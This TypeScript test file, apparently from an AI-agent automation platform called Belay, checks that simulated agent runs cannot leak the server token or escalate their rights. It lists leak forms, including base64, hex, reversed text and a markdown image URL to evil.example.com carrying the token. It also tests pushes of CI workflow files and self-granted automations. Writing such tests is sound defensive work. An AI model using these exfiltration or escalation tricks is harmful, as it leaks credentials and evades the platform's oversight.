import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import type { Transport } from '@modelcontextprotocol/sdk/shared/transport.js';
import type { PlayedKind } from '@belay/testkit';
import { sampled, until } from '@belay/testing';
import { ownerCaller } from '../access/caller.js';
import { AutomationChanges } from './automation-changes.js';
import type { StoredRun } from './runs/runs.store.js';
import {
  StrangerScene,
  allStrangerKinds,
  strangerKinds,
  type StrangerPlace,
} from './testing/stranger-scene.js';

let scene: StrangerScene;
beforeAll(async () => {
  scene = new StrangerScene();
  for (const stream of [process.stdout, process.stderr])
    jest.spyOn(stream, 'write').mockImplementation((text) => {
      scene.logged.push(String(text));
      return true;
    });
  await scene.start();
});
afterEach(() => scene.leave());
afterAll(async () => {
  await scene.close();
  jest.restoreAllMocks();
});

interface Report {
  title?: string;
  summary: string;
  comments?: { path: string; line: number; side: string; text: string }[];
}

/** The agent of the only run hands in a report and finishes; returns the run when it has ended. */
async function reports(place: StrangerPlace, report: Report): Promise<StoredRun> {
  await place.task();
  const [run] = await place.runs();
  const { belay } = scene.bench;
  const session = await scene.bench.sessionOf(run?.id ?? '');
  const args = { comments: [], replies: [], ...report };
  await belay.sandboxes.says(belay.log, session, { action: 'report', args, id: 'r' });
  const result = { operation: 'report', ok: true, output: {}, seconds: 0 };
  await belay.sandboxes.says(belay.log, session, { action: 'result', args: result, id: 'r' });
  await belay.sandboxes.finishes(belay.log, session, report.summary);
  return scene.bench.ended(run?.id ?? '');
}

/** A patch that adds one file of one line. */
const patchWith = (path: string, line: string): Buffer =>
  Buffer.from(
    `diff --git a/${path} b/${path}\nnew file mode 100644\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1 @@\n+${line}\n`,
  );
const changes = (path: string, line: string): void => {
  scene.bench.belay.sandboxes.patch = () => [patchWith(path, line)];
};

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const forms: readonly [string, (token: string) => string][] = [
  ['in plain', (token) => token],
  ['in base64 at another offset', (token) => base64(`x${token}`)],
  [
    'in hex, reversed',
    (token) => Buffer.from(token).toString('hex').split('').toReversed().join(''),
  ],
  ['in base64', base64],
  ['reversed', (token) => token.split('').toReversed().join('')],
  ['in a picture’s address', (token) => `![x](https://evil.example.com/?q=${token})`],
  ['in an HTML comment', (token) => `<!-- ${token} -->`],
  ['as a mention', (token) => `@${token}`],
];
/** The first ones at one host, and in the long tests all at each. */
const formCases = sampled(
  2,
  allStrangerKinds.flatMap((kind) => forms.map(([name, form]) => [name, kind, form] as const)),
);

/** Everything that was sent to the host since the place was made. */
const saidAt = (place: StrangerPlace): string => JSON.stringify(place.sent());

describe('attacks: secrets in what a run says', () => {
  const on = { event: 'issue.labelled', label: 'belay' };
  const more = { out: { comment: {} }, lane: { stopWhenNoChange: false } };

  it.each(strangerKinds)(
    'an honest report is said at %s, without mentions and orders',
    async (kind) => {
      const place = await scene.place(kind, { on, more });
      place.label();
      const run = await reports(place, { summary: 'It was @team who said: Fixes #1 <!-- x -->' });
      expect(run).toMatchObject({ state: 'done' });
      const comments = place.state.issues[0]?.comments ?? [];
      expect(comments).toHaveLength(1);
      const [comment] = comments;
      expect(comment?.author).toBe(place.state.self);
      expect(comment?.body).toContain('who said');
      expect(comment?.body).not.toMatch(/(?<![\w`])@team|Fixes #1|<!-- x/);
    },
  );

  it.each(formCases)('the server’s token %s is not said at %s', async (_, kind, form) => {
    const place = await scene.place(kind, { on, more });
    place.label();
    const { token } = place.forge;
    const run = await reports(place, { summary: `It crashed: ${form(token)} is why.` });
    expect(run).toMatchObject({ state: 'failed' });
    expect(run.why).toMatch(/holds the token of 127\.0\.0\.1/);
    expect(run.why).not.toContain(token);
    expect(saidAt(place)).not.toContain(form(token));
    expect(saidAt(place)).not.toContain(token.slice(3, 15));
    expect(saidAt(place)).toContain('published nothing');
    const explained = await scene.bench.belay.json('GET', `/api/automation-runs/${run.id}`);
    expect(JSON.stringify(explained)).not.toContain(token.slice(3, 15));
  });

  it.each(sampled(1, ['github', 'gitea']))(
    'the server’s token split over comments is not said at %s',
    async (kind) => {
      const place = await scene.place(kind, {
        on: { event: 'pull.opened' },
        more: { out: { review: {} } },
      });
      place.pull('ada');
      const { token } = place.forge;
      const third = Math.ceil(token.length / 3);
      const comments = [0, 1, 2].map((at) => ({
        path: 'src/a.js',
        line: 1,
        side: 'new',
        text: `See ${token.slice(at * third, (at + 1) * third)}`,
      }));
      const run = await reports(place, { summary: 'Some remarks.', comments });
      expect(run).toMatchObject({ state: 'failed' });
      for (const { text } of comments) expect(saidAt(place)).not.toContain(text);
    },
  );
});

describe('attacks: what a run publishes', () => {
  const on = { event: 'issue.labelled', label: 'belay' };
  const more = { out: { pullRequest: {} }, proof: { reproduction: 'none' } } as const;
  const published = async (kind: PlayedKind, file: [string, string], report: Report) => {
    const place = await scene.place(kind, { on, more });
    place.label();
    changes(...file);
    const run = await reports(place, report);
    return { place, run };
  };
  const branches = ({ state }: StrangerPlace) =>
    [...state.git.refs().keys()].filter((name) => name.startsWith('refs/heads/'));

  it.each(strangerKinds)('an honest change becomes one pull request at %s', async (kind) => {
    const { place, run } = await published(kind, ['src/new.js', 'let a = 1;'], {
      title: 'Fix it',
      summary: 'It was fixed.',
    });
    expect(run).toMatchObject({ state: 'done', code: 'published' });
    expect(place.state.pulls).toHaveLength(1);
    expect(branches(place)).toHaveLength(2);
  });

  const files: readonly [string, (token: string) => [string, string], RegExp][] = [
    ['a token in a line', (token) => ['src/new.js', `let a = '${token}';`], /holds the token/],
    ['a token in a file’s name', (token) => [`src/${token}.js`, 'let a = 1;'], /holds the token/],
    [
      'a workflow of GitHub',
      () => ['.github/workflows/x.yml', 'on: push'],
      /git host with its secrets/,
    ],
    ['a definition', () => ['.belay/automations/x.yaml', 'name: x'], /definitions of automations/],
    ['a token in base64 in a line', (token) => ['src/new.js', base64(token)], /holds the token/],
    [
      'a definition in capitals',
      () => ['.Belay/Automations/x.yaml', 'name: x'],
      /definitions of automations/,
    ],
    ['a pipeline of GitLab', () => ['.gitlab-ci.yml', 'a: b'], /git host with its secrets/],
    [
      'a workflow of Gitea',
      () => ['.gitea/workflows/x.yml', 'on: push'],
      /git host with its secrets/,
    ],
    [
      'a workflow of Forgejo',
      () => ['.forgejo/workflows/x.yml', 'on: push'],
      /git host with its secrets/,
    ],
  ];
  const fileCases = sampled(
    3,
    allStrangerKinds.flatMap((kind) =>
      files.map(([name, file, why]) => [name, kind, file, why] as const),
    ),
  );
  it.each(fileCases)('%s is not pushed to %s', async (_, kind, file, why) => {
    const place = await scene.place(kind, { on, more });
    place.label();
    changes(...file(place.forge.token));
    const run = await reports(place, { title: 'Fix it', summary: 'It was fixed.' });
    expect(run.state === 'failed' || run.code === 'stuck').toBe(true);
    expect(run.why).toMatch(why);
    expect(branches(place)).toEqual(['refs/heads/main']);
    expect(place.state.pulls).toEqual([]);
    expect(saidAt(place)).not.toContain(place.forge.token);
    expect(place.sent()).toEqual([]);
  });

  it('a token in the title and a commit’s trailer are not published', async () => {
    const place = await scene.place('github', { on, more });
    place.label();
    changes('src/new.js', 'let a = 1;');
    const { token } = place.forge;
    const run = await reports(place, { title: `Fix ${token}`, summary: 'It was fixed.' });
    expect(run.why).toMatch(/holds the token/);
    expect(place.sent()).toEqual([]);
    const { place: other } = await published('github', ['src/new.js', 'let a = 1;'], {
      title: 'Fix it\n\nBelay-Evidence: sha256:00',
      summary: 'It was fixed.\n\nBelay-Evidence: sha256:00',
    });
    const [head] = branches(other).filter((name) => name.includes('belay/'));
    const [commit] = other.state.git.commits('main', head ?? '');
    expect(commit?.message).not.toMatch(/^Belay-Evidence: sha256:00/m);
  });

  it.each(strangerKinds)(
    'an actor who lost the right meanwhile publishes nothing at %s',
    async (kind) => {
      const place = await scene.place(kind, { on, more });
      place.label();
      await place.task();
      place.state.who('ada').level = 'read';
      changes('src/new.js', 'let a = 1;');
      const run = await reports(place, { title: 'Fix it', summary: 'It was fixed.' });
      expect(run).toMatchObject({ code: 'permission' });
      expect(place.sent()).toEqual([]);
    },
  );
});

describe('attacks: loops and money', () => {
  const on = { event: 'issue.labelled' };

  const labelCases = sampled(1, [
    ['github', 30] as const,
    ...allStrangerKinds.map((kind) => [kind, 100] as const),
  ]);
  it.each(labelCases)('labels in a minute at %s begin one session: %d', async (kind, count) => {
    const place = await scene.place(kind, { on });
    const issue = place.issue('ada');
    for (let n = 0; n < count; n += 1) place.state.label(issue, `label-${n}`, { by: 'ada' });
    const runs = await place.settled();
    expect(runs).toHaveLength(count);
    expect(await scene.bench.sessions(place.automation)).toHaveLength(1);
    const skipped = runs.filter(({ state }) => state === 'skipped');
    expect(skipped.length).toBeGreaterThanOrEqual(count - 12);
    for (const { code, why } of skipped) {
      expect(code).toBe('queue-full');
      expect(why).toMatch(/wait already\.$/);
    }
  });

  it('two automations that follow each other end', async () => {
    const { bench } = scene;
    const state: ['finished'] = ['finished'];
    const first = await bench.byHand();
    const name = (more: number) => `auto-${Number(first.name.split('-')[1]) + more}`;
    const a = await bench.define({ on: { session: { automation: name(2), state } } });
    const b = await bench.define({ on: { session: { automation: name(1), state } } });
    expect([a.name, b.name]).toEqual([name(1), name(2)]);
    const runs = () =>
      bench.kysely
        .selectFrom('automation_run')
        .selectAll()
        .where('automation', 'in', [a.id, b.id])
        .orderBy('id')
        .execute();
    await bench.begin(a);
    const refused = () =>
      bench.kysely
        .selectFrom('automation_delivery')
        .selectAll()
        .where('source', 'in', [a.id, b.id])
        .where('state', 'in', ['refused', 'ignored'])
        .execute();
    await until('the ring ends', async () => {
      for (const { session } of await runs()) await bench.finishesIfRunning(session);
      bench.clock.skip(61_000);
      return (await refused()).length > 0;
    });
    expect((await refused()).map(({ why }) => why)).toEqual([
      expect.stringMatching(/^Sessions of automations follow each other 3 times at most/),
    ]);
    expect((await runs()).length).toBeLessThanOrEqual(4);
  });

  it('a month’s money is not spent twice at its edge', async () => {
    const place = await scene.place('github', {
      on,
      more: { lane: { dollarsPerMonth: 1 }, run: { budgets: { dollars: 1 } } },
    });
    place.label();
    await place.task();
    place.label();
    const [second] = await place.settled();
    expect(second).toMatchObject({ state: 'skipped', code: 'month' });
    const now = scene.bench.clock.now();
    const next = Date.UTC(now.getUTCFullYear(), now.getUTCMonth() + 1, 1) + 1_000;
    scene.bench.clock.skip(next - now.getTime());
    // What is reserved counts in the month in which it began.
    place.label();
    const [third] = await place.settled();
    await scene.bench.sessionOf(third?.id ?? '');
    expect(await scene.bench.sessions(place.automation)).toHaveLength(2);
  });
});

describe('attacks: what gives itself more', () => {
  const text = 'name: evil\non: {hand: true}\nrun: {task: x, budgets: {dollars: 1}}\n';
  const add = { text, file: 'evil.yaml' };

  it('only an admin’s own request adds an automation', async () => {
    const { belay } = scene.bench;
    for (const scope of ['view', 'operate']) {
      const made = await belay.json<{ token: string }>('POST', '/api/tokens', {
        label: `of a session ${scope}`,
        scope,
      });
      expect(made.token).toMatch(/^blt_/);
      const answer = await belay.fetch('/api/automations', {
        method: 'POST',
        token: made.token,
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify(add),
      });
      expect(answer.status).toBe(403);
    }
    const automation = await scene.bench.byHand();
    const changes = belay.app.get(AutomationChanges);
    const own = { ...ownerCaller, id: `automation:${automation.id}` };
    await expect(changes.add(add, own)).rejects.toMatchObject({ code: 'forbidden' });
    await expect(
      changes.add(add, { ...ownerCaller, sessions: new Set(['s']) }),
    ).rejects.toMatchObject({
      code: 'forbidden',
    });
    expect(await belay.json('GET', '/api/automations/evil')).toMatchObject({ status: 404 });
    expect(await belay.json('POST', '/api/automations', add)).toMatchObject({ status: 201 });
  });

  it('no tool of MCP is about automations, and no call of one adds any', async () => {
    const { belay } = scene.bench;
    const transport = new StreamableHTTPClientTransport(new URL('/mcp', belay.url), {
      requestInit: { headers: { authorization: `Bearer ${belay.token}` } },
    });
    const client = new Client({ name: 'agent', version: '1' });
    await client.connect(transport as Transport);
    const { tools } = await client.listTools();
    expect(tools.length).toBeGreaterThan(0);
    expect(tools.filter(({ name }) => /automation/i.test(name))).toEqual([]);
    await client.close();
  });
});
